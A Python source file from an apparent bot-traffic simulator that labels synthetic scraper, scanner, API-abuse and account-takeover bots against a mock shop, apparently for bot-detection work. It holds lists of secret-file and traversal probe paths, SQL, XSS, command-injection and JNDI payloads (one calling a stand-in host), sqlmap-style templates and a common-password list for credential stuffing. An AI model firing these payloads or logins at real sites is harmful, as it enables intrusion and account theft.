"""Bot actors, one family per class, labelled with the SPEC §5 bot type they belong to."""

from __future__ import annotations

import itertools
import math
import random
from collections.abc import Iterator

from node.sim import agents
from node.sim.core import FORM_CT, JSON_CT, Actor, Env, Family, Intent, family, login_body, new_sid
from node.sim.shopmodel import (
    CATEGORIES,
    N_PRODUCTS,
    N_USERS,
    SORTS,
    UPLOAD_CAP,
    body_of_size,
    check_password,
    login_sid,
    pages,
    password_for,
    username,
)

COMMON_PASSWORDS = ("123456", "password", "123456789", "12345678", "qwerty", "password1",
                    "111111", "123123", "abc123", "iloveyou", "Summer2025!", "Welcome1",
                    "letmein", "monkey", "dragon", "football", "P@ssw0rd", "Passw0rd!",
                    "qwerty123", "1q2w3e4r", "admin123", "shop2025", "changeme", "secret")
FIRST = ("anna", "ben", "chloe", "david", "emma", "felix", "grace", "hugo", "ines", "jack",
         "karen", "leo", "maria", "nina", "oscar", "paula", "quinn", "rosa", "sam", "tom")
LAST = ("smith", "muller", "garcia", "rossi", "dubois", "kowalski", "jansen", "silva",
        "novak", "berg", "brown", "martin", "weber", "lopez", "meyer")
MAIL = ("mail.example", "webmail.example", "inbox.example", "post.example")

PROBE_PATHS = (
    "/.env", "/.env.local", "/.env.production", "/.env.bak", "/.git/config", "/.git/HEAD",
    "/.svn/entries", "/.hg/hgrc", "/.DS_Store", "/.htaccess", "/.htpasswd", "/config.php",
    "/config.json", "/config.yml", "/wp-login.php", "/wp-admin/", "/wp-config.php.bak",
    "/wp-content/plugins/", "/xmlrpc.php", "/phpmyadmin/", "/pma/", "/myadmin/", "/admin",
    "/admin/", "/admin/login", "/administrator/", "/login.php", "/manager/html",
    "/server-status", "/server-info", "/actuator", "/actuator/env", "/actuator/heapdump",
    "/api/v1/admin", "/api/admin/users", "/console", "/debug/pprof/", "/_profiler",
    "/telescope/requests", "/swagger.json", "/swagger-ui.html", "/openapi.json",
    "/v2/api-docs", "/graphql", "/api/graphql", "/.aws/credentials", "/.ssh/id_rsa",
    "/id_rsa", "/web.config", "/crossdomain.xml", "/phpinfo.php", "/info.php", "/test.php",
    "/shell.php", "/cmd.php", "/c99.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/test-cgi", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/..%2f..%2f..%2f..%2fetc%2fpasswd", "/static/..%2f..%2f..%2fetc/passwd",
    "/static/../../../../etc/passwd", "/solr/admin/info/system", "/jenkins/login",
    "/owa/auth/logon.aspx", "/remote/login", "/global-protect/login.esp",
    "/boaform/admin/formLogin", "/HNAP1/", "/cgi-bin/luci", "/nagios/", "/robots.txt",
    "/sitemap.xml", "/.well-known/security.txt", "/api/.env", "/laravel/.env",
    "/storage/logs/laravel.log", "/elmah.axd", "/trace.axd", "/_ignition/execute-solution",
    "/api/jsonws/invoke", "/druid/index.html", "/nacos/", "/geoserver/web/",
    "/Autodiscover/Autodiscover.xml", "/.vscode/sftp.json", "/sftp-config.json",
    "/.idea/workspace.xml", "/docker-compose.yml", "/Dockerfile", "/package.json",
    "/composer.json", "/.npmrc", "/etc/passwd", "/api/users", "/api/admin", "/api/debug",
    "/api/internal/metrics", "/metrics", "/api/v1/users", "/user/login", "/owncloud/status.php",
)
BACKUPS = tuple(f"/{base}{ext}" for base in ("backup", "site", "db", "www", "shop", "old", "dump")
                for ext in (".zip", ".tar.gz", ".sql", ".bak", ".rar"))
# (path, query): attack signs against the real endpoints (SQLi, XSS, traversal, injection).
INJECTIONS = (
    ("/api/search", "q=%27%20OR%20%271%27%3D%271"),
    ("/api/search", "q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--"),
    ("/api/search", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("/api/search", "q=%22%3E%3Csvg%2Fonload%3Dalert(document.domain)%3E"),
    ("/api/search", "q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.250%2Fa%7D"),
    ("/api/search", "q=%7B%7B7*7%7D%7D"),
    ("/api/search", "q=%3Bcat%20%2Fetc%2Fpasswd"),
    ("/api/products", "category=books%27%20AND%20SLEEP(5)--"),
    ("/api/products", "page=1%20OR%201%3D1"),
    ("/api/products", "sort=name%3Bcat%20%2Fetc%2Fpasswd"),
    ("/api/products/1%27%20OR%20%271%27%3D%271", ""),
    ("/api/products/..%2f..%2f..%2fetc%2fpasswd", ""),
    ("/api/export", "format=..%2F..%2F..%2Fetc%2Fpasswd"),
    ("/", "file=..%2F..%2F..%2Fetc%2Fpasswd"),
    ("/", "redirect=http%3A%2F%2F203.0.113.250%2F"),
)
# sqlmap-style payload templates for one parameter: many variants of one injection point.
_SQLI = ("{v}'", "{v}\"", "{v}' AND {n}={n}-- -", "{v}' AND {n}={m}-- -", "{v}) AND {n}={n}",
         "{v}' ORDER BY {k}-- -", "{v}' UNION ALL SELECT {nulls}-- -",
         "{v}' AND SLEEP({k})-- -", "{v};SELECT PG_SLEEP({k})--", "{v}' OR {n}={n}#")


def shuffled(rng: random.Random, n: int, first: int = 1) -> Iterator[int]:
    """first..first+n-1 in a random order, lazily: an affine map modulo n with a random stride
    coprime to n. A bot's enumeration costs no memory, however many bots run."""
    while True:
        a = rng.randrange(1, n)
        if math.gcd(a, n) == 1:
            break
    b = rng.randrange(n)
    return (first + (a * i + b) % n for i in range(n))


def _enc(s: str) -> str:
    from urllib.parse import quote
    return quote(s, safe="")


class Bot(Actor):
    """Bots get addresses from their family's own block (some from a v6 one)."""

    NETWORK = "203.0.113.0/27"
    V6: str | None = None

    @classmethod
    def spawn(cls, env: Env, fam: Family, n: int) -> list[Actor]:
        rng = env.rng(f"ips/{fam.name}")
        ips = agents.addresses(rng, cls.NETWORK, n)
        out: list[Actor] = []
        for i in range(n):
            a = cls(env, fam, i)
            a.ip = agents.v6_in(rng, cls.V6) if cls.V6 and i % 2 else ips[i]
            out.append(a)
        return out

    def pace(self, t: float, interval: float, jitter: float = 0.04) -> float:
        """Next time at a regular interval: scripted loops barely vary."""
        return t + interval * (1.0 + self.rng.uniform(-jitter, jitter))


@family("scraper", "scraping", 4)
class Scraper(Bot):
    """Enumerates /api/products/{id}, in order or at random, fast and at regular intervals."""

    V6 = "2001:db8:bad:1::/64"

    def run(self) -> Iterator[Intent]:
        rng = self.rng
        t, stop = self.window((0.0, 0.5), (0.25, 0.6))
        library = rng.random() < 0.6
        self.ua = rng.choice(agents.LIBRARIES) if library else rng.choice(
            agents.OUTDATED + (agents.browser_ua(rng, False),))
        keep_cookie = rng.random() < 0.3
        interval = rng.choice((0.15, 0.2, 0.25, 0.5, 1.0))
        if rng.random() < 0.5:
            first = rng.randint(1, 3000)
            ids: Iterator[int] | range = range(first, N_PRODUCTS + 40)  # runs past the end: 404s
        else:
            ids = shuffled(rng, N_PRODUCTS + 100)
        if not library:
            yield self.req(t, "GET", "/")
            t = self.pace(t, interval)
        if keep_cookie:
            self.sid = new_sid(rng) if not library else None
        for pid in ids:
            if t >= stop:
                return
            yield self.req(t, "GET", f"/api/products/{pid}")
            if keep_cookie and self.sid is None:
                self.sid = new_sid(rng)
            t = self.pace(t, interval)


@family("stealth_scraper", "scraping", 3)
class StealthScraper(Bot):
    """A browser-like scraper: current UA, keeps its cookie, one product every few seconds for
    the whole window, never searches or buys: wide coverage at a human-ish rate."""

    NETWORK = "198.51.100.0/25"

    def run(self) -> Iterator[Intent]:
        rng, env = self.rng, self.env
        t = env.start + rng.uniform(0, 0.1) * env.duration
        self.ua = agents.browser_ua(rng, False)
        self.headers = {"Accept-Language": "en-US,en;q=0.9", "Referer": f"https://{env.host}/"}
        yield self.req(t, "GET", "/")
        self.sid = new_sid(rng)
        t += 0.05
        yield self.req(t, "GET", "/static/app.js")
        for k, pid in enumerate(shuffled(rng, N_PRODUCTS)):
            t += rng.uniform(3.0, 12.0)
            if t >= env.end:
                return
            if k % 40 == 39:
                cat = rng.choice(CATEGORIES)
                yield self.req(t, "GET", "/api/products",
                               f"category={cat}&page={rng.randint(1, pages(cat))}")
                t += rng.uniform(0.3, 1.0)
            yield self.req(t, "GET", f"/api/products/{pid}")


def _probes(rng: random.Random, tool: str, scale: float) -> list[tuple[str, str, str]]:
    paths = list(PROBE_PATHS + BACKUPS)
    rng.shuffle(paths)
    paths = paths[: max(20, int(len(paths) * scale))]
    out = [("GET", p, "") for p in paths]
    out += [("GET", p, q) for p, q in INJECTIONS]
    out += [("POST", p, "") for p in ("/wp-login.php", "/xmlrpc.php", "/api/login")]
    if tool.startswith("sqlmap"):  # hundreds of variants of one injection point
        for _ in range(int(300 * scale)):
            tpl = rng.choice(_SQLI)
            n, m = rng.randint(1000, 9999), rng.randint(1000, 9999)
            payload = tpl.format(v=rng.choice(("lamp", "1", "red")), n=n, m=m,
                                 k=rng.randint(1, 12), nulls=",".join(["NULL"] * rng.randint(1, 9)))
            out.append(("GET", "/api/search", "q=" + _enc(payload)))
    rng.shuffle(out)
    return out


@family("scanner", "security_crawlers", 3)
class Scanner(Bot):
    """A vulnerability scanner (sqlmap, Nikto, Nuclei, ...): probes admin pages, secrets,
    backups, CVE paths and injections in a burst; mostly 404s."""

    NETWORK = "203.0.113.32/27"
    V6 = "2001:db8:dead:beef::/64"

    def run(self) -> Iterator[Intent]:
        rng = self.rng
        t = self.at(0.0, 0.85)
        self.ua = rng.choice(agents.SCANNERS)
        mean = rng.uniform(0.05, 0.3)  # a tool with a few threads
        for _ in range(rng.randint(1, 3)):  # re-runs with another wordlist slice
            for method, path, query in _probes(rng, self.ua, rng.uniform(0.6, 1.0)):
                if t >= self.env.end:
                    return
                body = b"" if method == "GET" else b"log=admin&pwd=admin"
                yield self.req(t, method, path, query, body or None,
                               headers=FORM_CT if body else self.headers)
                t += rng.expovariate(1.0 / mean)
            t += rng.uniform(30, 300)


@family("browser_scanner", "security_crawlers", 1)
class BrowserScanner(Bot):
    """Forced browsing behind a current browser UA, slower, with a cookie: only the paths
    and the share of 404s give it away."""

    NETWORK = "198.51.100.128/25"

    def run(self) -> Iterator[Intent]:
        rng = self.rng
        t = self.at(0.0, 0.6)
        self.ua = agents.browser_ua(rng, False)
        self.headers = {"Accept-Language": "en-US,en;q=0.9"}
        yield self.req(t, "GET", "/")
        self.sid = new_sid(rng)
        for method, path, query in _probes(rng, "", rng.uniform(0.5, 0.9)):
            t += rng.uniform(0.5, 4.0)
            if t >= self.env.end:
                return
            body = None if method == "GET" else b"log=admin&pwd=admin"
            yield self.req(t, method, path, query, body,
                           headers={**self.headers, **FORM_CT} if body else self.headers)


def _two_letters() -> Iterator[str]:
    letters = "abcdefghijklmnopqrstuvwxyz"
    for a in letters:
        for b in letters:
            yield a + b
    for a in letters:
        for b in letters:
            for c in letters:
                yield a + b + c


@family("query_abuse", "api_abuse", 2)
class QueryAbuse(Bot):
    """Hammers /api/search varying one parameter (prefixes, model numbers), on a timer."""

    NETWORK = "203.0.113.64/27"

    def run(self) -> Iterator[Intent]:
        rng = self.rng
        t, stop = self.window((0.0, 0.6), (0.2, 0.4))
        self.ua = rng.choice(agents.LIBRARIES) if rng.random() < 0.5 else agents.browser_ua(rng)
        interval = rng.choice((0.2, 0.3, 0.5))
        values: Iterator[str] = (_two_letters() if self.idx % 2 == 0
                                 else (str(n * 10) for n in range(10, 99_999)))
        if rng.random() < 0.5:
            self.sid = new_sid(rng)
        for v in values:
            if t >= stop:
                return
            yield self.req(t, "GET", "/api/search", f"q={v}")
            t = self.pace(t, interval)


@family("pagination_abuse", "api_abuse", 1)
class PaginationAbuse(Bot):
    """Pages through every list, sort and category on a timer, past the last page."""

    NETWORK = "192.0.2.128/25"

    def run(self) -> Iterator[Intent]:
        rng = self.rng
        t, stop = self.window((0.0, 0.5), (0.3, 0.5))
        self.ua = rng.choice(agents.LIBRARIES)
        interval = rng.choice((0.3, 0.4, 0.6))
        for sort in SORTS:
            for cat in (None, *CATEGORIES):
                for page in range(1, pages(cat) + 2):
                    if t >= stop:
                        return
                    q = f"page={page}&sort={sort}" + (f"&category={cat}" if cat else "")
                    yield self.req(t, "GET", "/api/products", q)
                    t = self.pace(t, interval)


@family("resource_hog", "resource_consumption", 2)
class ResourceHog(Bot):
    """Unrestricted resource consumption: repeated full exports, or large uploads."""

    NETWORK = "203.0.113.96/27"

    def run(self) -> Iterator[Intent]:
        rng = self.rng
        t, stop = self.window((0.0, 0.6), (0.15, 0.35))
        self.ua = rng.choice(agents.LIBRARIES)
        upload_share = (0.5, 1.0, 0.0)[self.idx % 3]  # the first one does both
        octet = {"Content-Type": "application/octet-stream"}
        while t < stop:
            if rng.random() < upload_share:
                # Sizes in 256 KiB steps (shared bodies); some over the cap get 413.
                size = rng.randint(4, int(UPLOAD_CAP * 1.5) // 262_144) * 262_144
                yield self.req(t, "POST", "/api/upload", body=body_of_size(size), headers=octet)
                t += rng.uniform(2.0, 5.0)
            else:
                fmt = rng.choice(("json", "csv"))
                yield self.req(t, "GET", "/api/export", f"format={fmt}")
                t += rng.uniform(1.5, 4.0)


def _victim(rng: random.Random) -> tuple[str, str]:
    """A (username, password) pair from a leaked combo list."""
    if rng.random() < 0.55:
        n = rng.randint(1, N_USERS)
        # Password reuse: a few pairs are right for this shop.
        pw = password_for(n) if rng.random() < 0.008 else rng.choice(COMMON_PASSWORDS)
        return username(n), pw
    user = f"{rng.choice(FIRST)}.{rng.choice(LAST)}{rng.randint(1, 99)}@{rng.choice(MAIL)}"
    return user, rng.choice(COMMON_PASSWORDS)


@family("cred_stuffing", "account_takeover", 2)
class CredentialStuffing(Bot):
    """Credential stuffing from one address: many distinct usernames, fast."""

    NETWORK = "203.0.113.128/27"

    def run(self) -> Iterator[Intent]:
        rng = self.rng
        t = self.at(0.0, 0.7)
        r = rng.random()
        self.ua = (rng.choice(agents.LIBRARIES) if r < 0.5 else rng.choice(agents.OUTDATED)
                   if r < 0.75 else agents.browser_ua(rng))
        form = rng.random() < 0.4
        ct = FORM_CT if form else JSON_CT
        mean = rng.uniform(0.25, 1.0)
        for _ in range(rng.randint(500, 2500)):
            if t >= self.env.end:
                return
            user, pw = _victim(rng)
            yield self.req(t, "POST", "/api/login", body=login_body(user, pw, form), user=user,
                           headers=ct)
            if check_password(user, pw):
                self.sid = login_sid(None, user)  # a hit: look at the account at once
                t += rng.uniform(0.2, 1.0)
                yield self.req(t, "GET", "/api/orders")
                self.sid = None
            t += mean * rng.uniform(0.7, 1.3)


@family("distributed_cred_stuffing", "account_takeover", 1)
class DistributedStuffing(Bot):
    """Low-and-slow distributed credential stuffing: 50–200 residential proxy addresses
    sharing one UA, each address tries 1–3 logins over the hour."""

    def run(self) -> Iterator[Intent]:
        rng, env = self.rng, self.env
        pool = agents.addresses(rng, agents.PROXY_POOL_A, rng.randint(50, 200))
        self.ip = pool[0]
        self.ua = agents.DESKTOP[0][1]
        plan = [ip for ip in pool for _ in range(rng.randint(1, 3))]
        rng.shuffle(plan)
        t0 = env.start + rng.uniform(0, 0.1) * env.duration
        times = sorted(rng.uniform(t0, env.end) for _ in plan)
        for t, ip in zip(times, plan, strict=True):
            user, pw = _victim(rng)
            yield self.req(t, "POST", "/api/login", body=login_body(user, pw), user=user,
                           headers=JSON_CT, ip=ip)

    @classmethod
    def spawn(cls, env: Env, fam: Family, n: int) -> list[Actor]:
        return [cls(env, fam, i) for i in range(n)]


@family("brute_force", "account_takeover", 1)
class BruteForce(Bot):
    """Password guessing on one account from one address until it gets in."""

    NETWORK = "203.0.113.160/27"

    def run(self) -> Iterator[Intent]:
        rng = self.rng
        t = self.at(0.0, 0.6)
        self.ua = rng.choice(agents.LIBRARIES)
        n = rng.randint(1, N_USERS)
        user = username(n)
        # It has guessed the scheme: common passwords first, then pw-0000.. in random order.
        guesses = itertools.chain(COMMON_PASSWORDS,
                                  (f"pw-{k:04d}" for k in shuffled(rng, 10_000, 0)))
        interval = rng.uniform(0.4, 1.5)
        for pw in guesses:
            if t >= self.env.end:
                return
            yield self.req(t, "POST", "/api/login", body=login_body(user, pw), user=user,
                           headers=JSON_CT)
            if pw == password_for(n):
                self.sid = login_sid(None, user)
                t += 1.0
                yield self.req(t, "GET", "/api/orders")
                return
            t = self.pace(t, interval, 0.2)


@family("slow_ato", "account_takeover", 2)
class SlowAccountTakeover(Bot):
    """Persistent, slow account takeover: a few login attempts an hour on a handful of
    accounts, from a browser, for as long as the scenario runs."""

    NETWORK = "192.0.2.0/25"

    def run(self) -> Iterator[Intent]:
        rng, env = self.rng, self.env
        self.ua = agents.browser_ua(rng, False)
        self.headers = {"Accept-Language": "en-US,en;q=0.9", "Referer": f"https://{env.host}/"}
        post = {**self.headers, **JSON_CT}
        targets = [username(rng.randint(1, N_USERS)) for _ in range(rng.randint(3, 5))]
        t = env.start + rng.uniform(0, 600)
        k = 0
        while t < env.end:
            self.sid = None
            yield self.req(t, "GET", "/")
            self.sid = new_sid(rng)
            t += rng.uniform(2.0, 6.0)
            user = targets[k % len(targets)]
            yield self.req(t, "POST", "/api/login", body=login_body(user, rng.choice(
                COMMON_PASSWORDS)), user=user, headers=post)
            k += 1
            t += rng.lognormvariate(math.log(720), 0.4)  # ~5 attempts an hour


@family("session_rotation", "scraping", 1)
class SessionRotation(Bot):
    """One address cycling through fresh sessions (a few requests each) while scraping
    product pages, to stay under per-session limits."""

    NETWORK = "203.0.113.192/27"

    def run(self) -> Iterator[Intent]:
        rng = self.rng
        t, stop = self.window((0.0, 0.6), (0.2, 0.4))
        self.ua = agents.browser_ua(rng, False)
        ids = shuffled(rng, N_PRODUCTS)
        while t < stop:
            self.sid = None
            for _ in range(rng.randint(3, 7)):
                yield self.req(t, "GET", f"/api/products/{next(ids)}")
                if self.sid is None:
                    self.sid = new_sid(rng)
                t += rng.uniform(0.4, 1.2)
                if t >= stop:
                    return


@family("ip_rotation", "scraping", 1)
class IpRotation(Bot):
    """A scraper behind a rotating proxy pool: same cookie and UA, a new address every few
    requests."""

    def run(self) -> Iterator[Intent]:
        rng = self.rng
        t, stop = self.window((0.0, 0.5), (0.3, 0.5))
        pool = agents.addresses(rng, agents.PROXY_POOL_B, rng.randint(30, 100))
        self.ua = agents.browser_ua(rng, False)
        self.ip = rng.choice(pool)
        yield self.req(t, "GET", "/")
        self.sid = new_sid(rng)
        left = rng.randint(1, 5)
        for pid in shuffled(rng, N_PRODUCTS):
            t += rng.uniform(0.8, 2.5)
            if t >= stop:
                return
            left -= 1
            if left == 0:
                self.ip, left = rng.choice(pool), rng.randint(1, 5)
            yield self.req(t, "GET", f"/api/products/{pid}")

    @classmethod
    def spawn(cls, env: Env, fam: Family, n: int) -> list[Actor]:
        return [cls(env, fam, i) for i in range(n)]


@family("fake_crawler", "scraping", 1)
class FakeCrawler(Bot):
    """Claims to be Googlebot or Bingbot from an address that is not theirs."""

    NETWORK = "203.0.113.224/27"

    def run(self) -> Iterator[Intent]:
        rng = self.rng
        t, stop = self.window((0.0, 0.5), (0.2, 0.4))
        self.ua = rng.choice(agents.GOOGLEBOT)
        for path in ("/robots.txt", "/sitemap.xml", "/"):
            yield self.req(t, "GET", path)
            t += rng.uniform(0.5, 2.0)
        pids = shuffled(rng, N_PRODUCTS)
        while t < stop:
            if rng.random() < 0.1:
                cat = rng.choice(CATEGORIES)
                yield self.req(t, "GET", "/api/products",
                               f"category={cat}&page={rng.randint(1, pages(cat))}")
            else:
                yield self.req(t, "GET", f"/api/products/{next(pids)}")
            t += rng.uniform(0.5, 2.0)
